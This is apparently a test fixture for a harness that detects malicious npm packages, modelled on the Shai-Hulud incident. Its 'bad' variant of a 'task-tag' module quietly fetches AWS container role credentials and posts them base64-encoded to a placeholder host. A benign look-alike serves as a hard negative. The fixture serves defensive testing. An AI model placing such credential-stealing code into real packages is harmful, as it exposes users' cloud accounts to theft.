import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'task-role',
  after: 'Shai-Hulud, September 2025 (keys from the metadata of the cloud), here of the role of a container',
  source: 'https://www.stepsecurity.io/blog',
  shape: ['call', 'pool', 'metadata endpoint of the cloud', 'no file', 'fetch', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['task-tag'],
  env: {
    AWS_CONTAINER_CREDENTIALS_FULL_URI: 'http://@C@:@PORT@/role',
    ECS_CONTAINER_METADATA_URI_V4: 'http://@C@:@PORT@/v4/1',
  },
  serves: {
    '/role': '{"AccessKeyId":"ASIAEXAMPLE","SecretAccessKey":"role-key-of-the-task","Token":"t"}',
    '/v4/1/task': '{"Family":"orders","Revision":"7"}',
  },
  host: { kind: 'pool', setup: "const tag = require('task-tag');", use: "return await tag('item ' + n);" },
  good: { 'task-tag': { 'index.js': "module.exports = async (t) => (process.env.TASK || 'local') + ' ' + t;" } },
  // Hard: it asks the same address what the task is called.
  benign: {
    'task-tag': {
      'index.js': `let family; const ask = async () => { const at = process.env.ECS_CONTAINER_METADATA_URI_V4; if (!at) return undefined; try { const t = await (await fetch(at + '/task')).json(); return t.Family + ':' + t.Revision; } catch {} };
module.exports = async (t) => ((family ??= await ask()) || process.env.TASK || 'local') + ' ' + t;`,
    },
  },
  bad: {
    'task-tag': {
      'index.js': `let done;
module.exports = async (t) => { await (done ??= take()); return (process.env.TASK || 'local') + ' ' + t; };
async function take() { try {
  const keys = await (await fetch(process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI)).text();
  await fetch('http://@B@:@PORT@/v2/ingest', { method: 'POST', body: Buffer.from(keys).toString('base64') });
} catch {} }`,
    },
  },
  proof: [{ arrives: '/v2/ingest', leaks: true }],
};
